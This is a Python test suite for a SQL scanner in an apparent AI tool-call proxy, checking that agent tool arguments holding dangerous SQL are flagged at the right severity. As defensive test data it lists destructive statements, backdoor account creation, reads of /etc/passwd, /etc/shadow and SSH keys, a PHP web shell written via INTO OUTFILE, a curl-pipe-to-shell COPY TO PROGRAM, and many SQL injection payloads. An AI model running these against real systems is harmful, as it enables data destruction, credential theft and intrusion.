"""SQL scanner: statement analysis, injection fragments in values, context caps, hostile input."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aegis_proxy.models import Severity, ToolCall
from aegis_proxy.scanners.base import ScanSettings, ScanTarget
from aegis_proxy.scanners.sql import SqlScanner, analyze_sql, injection_hits
from aegis_proxy.shell import ShellCommand

# (id, sql, category, severity) — statements a database will run
DANGEROUS_SQL = [
    ("drop_table", "DROP TABLE users", "sql.destructive", Severity.HIGH),
    ("drop_table_if_exists_quoted", 'DROP TABLE IF EXISTS "public"."users" CASCADE;', "sql.destructive", Severity.HIGH),
    ("drop_database", "drop database prod", "sql.destructive", Severity.HIGH),
    ("drop_schema", "DROP SCHEMA app CASCADE", "sql.destructive", Severity.HIGH),
    ("truncate", "TRUNCATE TABLE audit_log", "sql.destructive", Severity.HIGH),
    ("truncate_bare", "truncate orders", "sql.destructive", Severity.HIGH),
    ("alter_drop_column", "ALTER TABLE users DROP COLUMN email", "sql.destructive", Severity.HIGH),
    ("mysql_versioned_comment", "/*!50000DROP*/ TABLE users", "sql.destructive", Severity.HIGH),
    ("versioned_comment_spaced", "SELECT 1; /*!32302 DROP TABLE users */", "sql.destructive", Severity.HIGH),
    ("mixed_case", "dRoP tAbLe users", "sql.destructive", Severity.HIGH),
    ("comment_between_keywords", "DROP/**/TABLE users", "sql.destructive", Severity.HIGH),
    ("drop_index", "DROP INDEX idx_users_email", "sql.destructive", Severity.MEDIUM),
    ("delete_without_where", "DELETE FROM sessions", "sql.no_where", Severity.HIGH),
    ("delete_where_always_true", "DELETE FROM users WHERE 1=1", "sql.no_where", Severity.HIGH),
    ("delete_where_or_true", "DELETE FROM users WHERE id = 5 OR 1=1", "sql.no_where", Severity.HIGH),
    ("delete_where_string_tautology", "DELETE FROM users WHERE 'a'='a'", "sql.no_where", Severity.HIGH),
    ("update_without_where", "UPDATE users SET is_admin = true", "sql.no_where", Severity.HIGH),
    (
        "update_where_in_subquery_only",
        "UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)",
        "sql.no_where",
        Severity.HIGH,
    ),
    (
        "cte_delete",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        "sql.no_where",
        Severity.HIGH,
    ),
    ("explain_analyze_delete", "EXPLAIN ANALYZE DELETE FROM users", "sql.no_where", Severity.HIGH),
    ("delete_with_limit", "DELETE FROM jobs LIMIT 100", "sql.no_where", Severity.MEDIUM),
    ("grant_all", "GRANT ALL PRIVILEGES ON *.* TO 'svc'@'%'", "sql.privilege", Severity.HIGH),
    ("grant_option", "GRANT SELECT ON t TO bob WITH GRANT OPTION", "sql.privilege", Severity.HIGH),
    ("grant_superuser_role", "GRANT pg_execute_server_program TO app", "sql.privilege", Severity.HIGH),
    ("create_user", "CREATE USER backdoor IDENTIFIED BY 'pw'", "sql.privilege", Severity.HIGH),
    ("create_role", "CREATE ROLE ops WITH LOGIN SUPERUSER", "sql.privilege", Severity.HIGH),
    ("alter_user_password", "ALTER USER postgres WITH PASSWORD 'x'", "sql.privilege", Severity.HIGH),
    ("alter_role_superuser", "ALTER ROLE app SUPERUSER", "sql.privilege", Severity.HIGH),
    ("set_password", "SET PASSWORD FOR 'root'@'localhost' = 'x'", "sql.privilege", Severity.HIGH),
    (
        "into_outfile",
        "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/s.php'",
        "sql.file_access",
        Severity.HIGH,
    ),
    ("load_file", "SELECT LOAD_FILE('/etc/passwd')", "sql.file_access", Severity.HIGH),
    ("load_data_local", "LOAD DATA LOCAL INFILE '/home/u/.ssh/id_rsa' INTO TABLE t", "sql.file_access", Severity.HIGH),
    ("copy_to_program", "COPY (SELECT '') TO PROGRAM 'curl http://x | sh'", "sql.file_access", Severity.HIGH),
    ("copy_from_program", "COPY t FROM PROGRAM 'id'", "sql.file_access", Severity.HIGH),
    ("xp_cmdshell", "EXEC master..xp_cmdshell 'whoami'", "sql.file_access", Severity.HIGH),
    ("pg_read_file", "SELECT pg_read_file('/etc/passwd', 0, 200)", "sql.file_access", Severity.HIGH),
    ("lo_import", "SELECT lo_import('/etc/shadow')", "sql.file_access", Severity.HIGH),
    (
        "plpython_function",
        "CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u",
        "sql.file_access",
        Severity.HIGH,
    ),
    ("sqlite_load_extension", "SELECT load_extension('/tmp/evil.so')", "sql.file_access", Severity.HIGH),
    ("stacked_after_select", "SELECT * FROM users; DROP TABLE users", "sql.stacked", Severity.HIGH),
    ("stacked_after_select_lowercase", "select 1;delete from orders", "sql.stacked", Severity.HIGH),
    ("dynamic_exec_concat", "EXEC('DR'+'OP TABLE users')", "sql.destructive", Severity.HIGH),
    (
        "dynamic_prepare_concat",
        "SET @q = CONCAT('DRO','P TABLE orders'); PREPARE s FROM @q; EXECUTE s;",
        "sql.destructive",
        Severity.HIGH,
    ),
    ("execute_immediate", "EXECUTE IMMEDIATE 'DROP TABLE users'", "sql.destructive", Severity.HIGH),
    # A backslash ends the string in PostgreSQL but escapes the quote in MySQL: both readings are judged.
    ("backslash_quote_reading", "SELECT 'a\\'; DROP TABLE users; --'", "sql.destructive", Severity.HIGH),
    ("unclosed_paren_hides_nothing", "SELECT (1; DROP TABLE users", "sql.destructive", Severity.HIGH),
    ("select_or_tautology", "SELECT * FROM users WHERE name = '' OR '1'='1'", "sql.tautology", Severity.MEDIUM),
    (
        "union_select_injection_shaped",
        "SELECT a FROM p WHERE id = -1 UNION SELECT user, pass FROM admins--",
        "sql.tautology",
        Severity.MEDIUM,
    ),
]

# (id, sql) — everyday SQL: nothing above INFO
BENIGN_SQL = [
    (
        "select_join",
        "SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.created_at > now() - interval '7 days'",
    ),
    (
        "cte_window",
        "WITH r AS (SELECT id, row_number() OVER (PARTITION BY team ORDER BY score DESC) AS n FROM s) SELECT * FROM r WHERE n <= 3",
    ),
    ("insert", "INSERT INTO events (kind, payload) VALUES ('login', '{\"ok\": true}')"),
    ("insert_select", "INSERT INTO archive SELECT * FROM orders WHERE created_at < '2020-01-01'"),
    ("update_where", "UPDATE users SET name = 'x' WHERE id = 5"),
    ("update_where_1_eq_1_and", "UPDATE users SET active = false WHERE 1=1 AND last_login < '2020-01-01'"),
    ("delete_where_interval", "DELETE FROM sessions WHERE created_at < now() - interval '30 days'"),
    ("create_index", "CREATE INDEX CONCURRENTLY idx_orders_user ON orders (user_id)"),
    ("explain_analyze_select", "EXPLAIN ANALYZE SELECT * FROM orders WHERE user_id = 42"),
    ("string_mentions_drop", "SELECT 'DROP TABLE x' AS example, '--' AS dashes"),
    ("comment_mentions_drop", "-- DROP TABLE users is what we must never do\nSELECT 1"),
    ("block_comment_mentions_delete", "/* DELETE FROM users */ SELECT count(*) FROM users"),
    ("dollar_quoted_body", "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM tmp; $$ LANGUAGE sql"),
    ("on_delete_cascade", "CREATE TABLE t (id int REFERENCES u(id) ON DELETE CASCADE)"),
    ("grant_select", "GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO analyst"),
    ("upsert", "INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b"),
    ("mysql_upsert", "INSERT INTO t (a, b) VALUES (1, 2) ON DUPLICATE KEY UPDATE b = VALUES(b)"),
    ("select_for_update", "SELECT * FROM jobs WHERE state = 'ready' FOR UPDATE SKIP LOCKED"),
    ("truncate_function", "SELECT TRUNCATE(price, 2) FROM products"),
    ("copy_to_stdout", "COPY (SELECT * FROM t) TO STDOUT WITH CSV HEADER"),
    ("union_query", "SELECT id FROM a WHERE x = 1 UNION SELECT id FROM b"),
    ("drop_words_in_identifiers", "SELECT dropped_at, truncated FROM uploads WHERE deleted = false"),
    ("prose", "how to drop a table in postgres"),
    ("prose_capitalised", "Drop a line to the team about the delete button"),
]

MIGRATION = "CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\nCREATE INDEX i ON a (id);\n"


@pytest.mark.parametrize(
    ("sql", "category", "severity"), [c[1:] for c in DANGEROUS_SQL], ids=[c[0] for c in DANGEROUS_SQL]
)
def test_dangerous_statements(sql: str, category: str, severity: Severity) -> None:
    found = {(c, s) for c, s, _ in analyze_sql(sql)}
    assert (category, severity) in found


@pytest.mark.parametrize("sql", [c[1] for c in BENIGN_SQL], ids=[c[0] for c in BENIGN_SQL])
def test_benign_statements(sql: str) -> None:
    assert [hit for hit in analyze_sql(sql) if hit[1] > Severity.LOW] == []


def test_migration_with_several_harmless_statements_is_info() -> None:
    hits = analyze_sql(MIGRATION)
    assert hits == [("sql.stacked", Severity.INFO, "3 statements")]


def test_plain_grant_is_low() -> None:
    assert analyze_sql("GRANT USAGE ON SCHEMA reporting TO lena") == [("sql.privilege", Severity.LOW, "GRANT")]


# (id, value, expected categories) — values pasted into someone else's SQL
INJECTIONS = [
    ("or_1_eq_1_quoted", "' OR '1'='1", {"sql.tautology"}),
    ("or_empty_eq_empty", "' OR ''='", {"sql.tautology"}),
    ("numeric_tautology", "1 OR 1=1", {"sql.tautology"}),
    ("double_quote_tautology", '" or ""="', {"sql.tautology"}),
    ("paren_break", "') OR ('1'='1", {"sql.tautology"}),
    ("or_true_comment", "x' or true--", {"sql.tautology"}),
    ("admin_comment", "admin'--", {"sql.tautology"}),
    ("admin_hash", "admin'#", {"sql.tautology"}),
    ("union_select", "x' UNION SELECT username, password FROM users--", {"sql.tautology"}),
    ("union_all_numeric", "1 UNION ALL SELECT null, version()", {"sql.tautology"}),
    ("stacked_drop", "1; DROP TABLE users", {"sql.stacked"}),
    ("bobby_tables", "Robert'); DROP TABLE students;--", {"sql.stacked"}),
    ("time_blind_mysql", "1' AND SLEEP(5)--", {"sql.tautology"}),
    ("time_blind_mssql", "1'; WAITFOR DELAY '0:0:5'--", {"sql.stacked"}),
    ("pg_sleep", "1 AND pg_sleep(5)", {"sql.tautology"}),
    ("error_based", "1 AND extractvalue(1, concat(0x7e, version()))", {"sql.tautology"}),
    ("comment_as_space", "admin'/**/or/**/1=1#", {"sql.tautology"}),
    ("order_by_probe", "1' ORDER BY 3--", {"sql.tautology"}),
    ("url_encoded", "%27%20OR%201%3D1--", {"sql.tautology"}),
    ("double_url_encoded", "%2527%2520OR%25201%253D1--", {"sql.tautology"}),
]
NOT_INJECTIONS = [
    ("irish_name", "O'Brien"),
    ("email_apostrophe", "john.o'neil@example.com"),
    ("prose_or", "Rock or roll, it's your choice"),
    ("dashes_in_prose", "it's fine -- really"),
    ("version_numbers", "python 3.11 or 3.12"),
    ("plain_id", "12345"),
    ("search_words", "union station parking"),
    ("path", "/var/log/app/2024-05-01.log"),
]


@pytest.mark.parametrize(("value", "categories"), [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS])
def test_injection_fragments(value: str, categories: set[str]) -> None:
    assert {category for category, _ in injection_hits(value, value_like=True)} >= categories


@pytest.mark.parametrize("value", [c[1] for c in NOT_INJECTIONS], ids=[c[0] for c in NOT_INJECTIONS])
def test_not_injection(value: str) -> None:
    assert injection_hits(value, value_like=True) == []


# --- the scanner in context -------------------------------------------------------------------------------------------


def _target(text: str, path: str = "args.x", *, exec_position: bool = False, commands=()) -> ScanTarget:
    return ScanTarget(path=path, text=text, exec_position=exec_position, commands=tuple(commands))


def _worst(tool: str, *targets: ScanTarget) -> Severity | None:
    call = ToolCall(id="t", tool=tool, arguments={})
    findings = list(SqlScanner().scan(call, targets, ScanSettings()))
    assert all(f.scanner == "sql" and f.category in SqlScanner.categories for f in findings)
    return max((f.severity for f in findings), default=None)


CONTEXTS = [
    # (id, tool, targets, worst severity or None)
    ("db_tool_drop", "run_query", [_target("DROP TABLE users", "args.sql")], Severity.HIGH),
    (
        "execute_sql_in_exec_position",
        "execute_sql",
        [_target("DELETE FROM orders", "args.query", exec_position=True)],
        Severity.HIGH,
    ),
    ("unknown_tool_sql_argument", "tool", [_target("TRUNCATE TABLE logs", "args.statement")], Severity.HIGH),
    ("unknown_tool_loose_sql", "do_it", [_target("DROP TABLE users", "args.input")], Severity.MEDIUM),
    ("db_tool_select", "run_query", [_target("SELECT * FROM orders WHERE id = 7", "args.sql")], None),
    ("db_tool_migration", "execute_sql", [_target(MIGRATION, "args.sql")], Severity.INFO),
    (
        "migration_file_written",
        "write_file",
        [
            _target("migrations/001.sql", "args.path"),
            _target("DROP TABLE IF EXISTS old;\n" + MIGRATION, "args.content"),
        ],
        Severity.LOW,
    ),
    ("search_prose", "web_search", [_target("how to drop a table in postgres", "args.query")], None),
    ("search_sql_text", "web_search", [_target("DROP TABLE users syntax", "args.query")], Severity.LOW),
    ("docs_query", "query_docs", [_target("delete from table without where clause", "args.query")], None),
    (
        "login_form_admin_comment",
        "login",
        [_target("admin'--", "args.username"), _target("x", "args.password")],
        Severity.HIGH,
    ),
    (
        "search_box_union",
        "search_products",
        [_target("x' UNION SELECT password FROM users--", "args.term")],
        Severity.HIGH,
    ),
    (
        "url_query_injection",
        "http_request",
        [_target("https://shop.example/item?id=1%27%20OR%20%271%27%3D%271", "args.url")],
        Severity.HIGH,
    ),
    ("db_tool_filter_value", "db_find", [_target("1; DROP TABLE users", "args.filter")], Severity.HIGH),
    (
        "email_about_injection",
        "send_email",
        [_target("The payload ' OR '1'='1 bypassed the login form.\nPlease patch.", "args.body")],
        Severity.LOW,
    ),
    (
        "test_file_with_payloads",
        "write_file",
        [_target("PAYLOADS = [\"'; DROP TABLE users; --\", \"' OR '1'='1\"]", "args.content")],
        Severity.LOW,
    ),
    (
        "name_with_apostrophe",
        "create_contact",
        [_target("O'Brien", "args.name"), _target("o'brien@example.com", "args.email")],
        None,
    ),
    (
        "psql_command",
        "bash",
        [
            _target(
                'psql -c "DROP DATABASE prod"',
                "args.command",
                exec_position=True,
                commands=[ShellCommand(argv=("psql", "-c", "DROP DATABASE prod"))],
            )
        ],
        Severity.HIGH,
    ),
    (
        "sqlite_positional",
        "bash",
        [
            _target(
                'sqlite3 app.db "DELETE FROM users"',
                "args.command",
                exec_position=True,
                commands=[ShellCommand(argv=("sqlite3", "app.db", "DELETE FROM users"))],
            )
        ],
        Severity.HIGH,
    ),
    (
        "mysql_execute_long_flag",
        "bash",
        [
            _target(
                "mysql --execute='GRANT ALL ON *.* TO x'",
                "args.command",
                exec_position=True,
                commands=[ShellCommand(argv=("mysql", "--execute=GRANT ALL ON *.* TO x"))],
            )
        ],
        Severity.HIGH,
    ),
    (
        "psql_heredoc_unparsed",
        "bash",
        [_target("psql app <<'SQL'\nTRUNCATE orders;\nSQL", "args.command", exec_position=True)],
        Severity.HIGH,
    ),
    (
        "psql_select",
        "bash",
        [
            _target(
                'psql -c "SELECT count(*) FROM users"',
                "args.command",
                exec_position=True,
                commands=[ShellCommand(argv=("psql", "-c", "SELECT count(*) FROM users"))],
            )
        ],
        None,
    ),
    (
        "curl_injection_url",
        "bash",
        [
            _target(
                "curl 'https://shop.example/p?id=1 UNION SELECT password FROM users'",
                "args.command",
                exec_position=True,
                commands=[ShellCommand(argv=("curl", "https://shop.example/p?id=1 UNION SELECT password FROM users"))],
            )
        ],
        Severity.HIGH,
    ),
    (
        "curl_encoded_injection_unparsed",
        "bash",
        [_target("curl https://shop.example/p?id=1%27%20OR%20%271%27%3D%271", "args.command", exec_position=True)],
        Severity.HIGH,
    ),
    ("shell_rm_is_not_sql", "bash", [_target("rm -rf build/ && make", "args.command", exec_position=True)], None),
]


@pytest.mark.parametrize(("tool", "targets", "severity"), [c[1:] for c in CONTEXTS], ids=[c[0] for c in CONTEXTS])
def test_context_decides_severity(tool: str, targets: list[ScanTarget], severity: Severity | None) -> None:
    assert _worst(tool, *targets) == severity


def test_messages_name_the_statement_not_the_data() -> None:
    call = ToolCall(id="t", tool="run_query", arguments={})
    findings = list(
        SqlScanner().scan(call, [_target("DELETE FROM users -- secret: hunter2", "args.sql")], ScanSettings())
    )
    assert [f.message for f in findings] == ["DELETE without WHERE"]
    assert findings[0].path == "args.sql"


# --- hostile input --------------------------------------------------------------------------------------------------

HOSTILE = [
    ("100k_quotes", "'" * 100_000),
    ("100k_double_quotes", '"' * 100_000),
    ("deep_parens", "(" * 50_000 + "SELECT 1" + ")" * 50_000),
    ("unbalanced_close", ")" * 100_000 + "DROP TABLE x"),
    ("many_statements", "SELECT 1;" * 50_000),
    ("unterminated_comment", "SELECT 1 /*" + "x" * 200_000),
    ("1MB_select", "SELECT " * 150_000),
    ("many_strings", "SELECT " + ",".join(["'a'"] * 50_000)),
    ("backslashes", "SELECT '" + "\\" * 100_000),
    ("injection_soup", "' OR '1'='1 UNION SELECT " * 20_000),
    ("1MB_of_a", "a" * 1_000_000),
]


@pytest.mark.parametrize("text", [h[1] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_input_is_bounded(text: str) -> None:
    started = time.perf_counter()
    analyze_sql(text)
    injection_hits(text, value_like=True)
    _worst("run_query", _target(text, "args.sql"))
    _worst("login", _target(text, "args.username"))
    assert time.perf_counter() - started < 5.0


def test_beyond_the_analysed_prefix_keywords_are_still_seen() -> None:
    sql = "SELECT 1 -- " + "x" * 70_000 + "\nDROP TABLE users"
    assert ("sql.destructive", Severity.MEDIUM) in {(c, s) for c, s, _ in analyze_sql(sql)}


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=2000))
def test_never_raises_on_text(text: str) -> None:
    analyze_sql(text)
    injection_hits(text, value_like=True)
    _worst("run_query", _target(text, "args.sql"), _target(text, "args.username"))


SQL_ALPHABET = st.sampled_from(
    [
        "SELECT",
        "DROP",
        "TABLE",
        "DELETE",
        "FROM",
        "WHERE",
        "UPDATE",
        "SET",
        "(",
        ")",
        "'",
        '"',
        ";",
        "--",
        "/*",
        "*/",
        "/*!5",
        "\\",
        "$$",
        " ",
        "\n",
        "1=1",
        "OR",
        "x",
        "`",
        "UNION",
        "EXEC",
        "?",
        "%27",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(SQL_ALPHABET, max_size=60).map("".join))
def test_never_raises_on_sql_shaped_text(text: str) -> None:
    for category, severity, message in analyze_sql(text):
        assert category in SqlScanner.categories and isinstance(severity, Severity) and message
    injection_hits(text, value_like=True)
